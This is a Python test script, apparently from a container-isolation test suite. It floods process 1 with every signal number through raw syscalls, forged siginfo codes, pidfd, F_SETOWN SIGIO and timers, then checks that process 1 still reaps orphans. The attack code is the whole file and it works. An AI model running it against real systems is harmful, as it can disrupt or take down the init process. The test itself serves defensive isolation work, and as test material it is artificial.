#!/usr/bin/env python3
# attack: signals of every number to process 1, in every way there is to send one
# tries: kill, tkill, tgkill, sigqueue with forged codes, pidfd_send_signal, SIGIO by F_SETOWN and F_SETOWN_EX, timers aimed at a foreign
#   thread, notices of message queues, a death signal; 64 numbers each, in thousands, so that queues of pending signals are full too.
# source: field notes 5b 5; SIGCHLD forgery (CVE-2009-1337's neighbourhood), F_SETOWN to foreign processes (CVE-2019-11833's time)
# expect: process 1 stops at nothing: it still reaps and counts, and this program ends as usual
# stopped-by: pid_namespace
# control: own
# needs: python3
import ctypes
import fcntl
import os
import signal
import socket
import struct
import sys
import time

CONTROL = os.environ.get("ATTACK_CONTROL", "") not in ("", "0")
c = ctypes.CDLL(None, use_errno=True)
target = 1
if CONTROL:
    # A process of the same make that is not the first of its namespace.
    target = os.fork()
    if target == 0:
        while True:
            time.sleep(1)


def quiet(what):
    try:
        what()
    except (OSError, ValueError, OverflowError):
        pass


for number in range(1, 65):
    quiet(lambda: c.syscall(62, target, number))
    quiet(lambda: c.syscall(200, target, number))
    quiet(lambda: c.syscall(234, target, target, number))
    for code in (-1, -6, 0, 1, 0x80):
        info = struct.pack("iiiixxxxii", number, 0, code, 0, 1, 0).ljust(128, b"\0")
        c.syscall(129, target, number, info)
        c.syscall(297, target, target, number, info)
    pidfd = c.syscall(434, target, 0)
    if pidfd >= 0:
        c.syscall(424, pidfd, number, None, 0)
        os.close(pidfd)
for _ in range(1500):
    c.sigqueue(target, signal.SIGRTMIN + 3, None)
    c.syscall(62, target, signal.SIGCHLD)
a, b = socket.socketpair()
for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    quiet(lambda: fcntl.fcntl(a, fcntl.F_SETSIG, number))
    quiet(lambda: fcntl.fcntl(a, fcntl.F_SETOWN, target))
    quiet(lambda: fcntl.fcntl(a, 15, struct.pack("ii", 0, target)))
    quiet(lambda: fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK))
    quiet(lambda: b.send(b"x"))
    event = struct.pack("QiiiI", 0, number, 4, target, 0).ljust(64, b"\0")
    timer = ctypes.c_int()
    if c.syscall(222, 1, event, ctypes.byref(timer)) == 0:
        c.syscall(223, timer, 0, struct.pack("qqqq", 0, 1000000, 0, 1000000), None)
quiet(lambda: c.prctl(1, 9, 0, 0, 0))
# Is it still doing its work? An orphan must be reaped by it.
if CONTROL:
    for _ in range(100):
        if os.waitpid(target, os.WNOHANG)[0] == target:
            print("broke: a process like any other is killed by them")
            sys.exit(99)
        time.sleep(0.01)
    print("unclear: not even that process was killed")
    sys.exit(1)
read, write = os.pipe()
if os.fork() == 0:
    orphan = os.fork()
    if orphan:
        os.write(write, struct.pack("i", orphan))
    os._exit(0)
os.wait()
orphan = struct.unpack("i", os.read(read, 4))[0]
end = time.monotonic() + 2
while os.path.exists(f"/proc/{orphan}") and time.monotonic() < end:
    time.sleep(0.005)
if os.path.exists(f"/proc/{orphan}"):
    print("broke: process 1 reaps no more")
    sys.exit(99)
print("held: process 1 reaps as before")
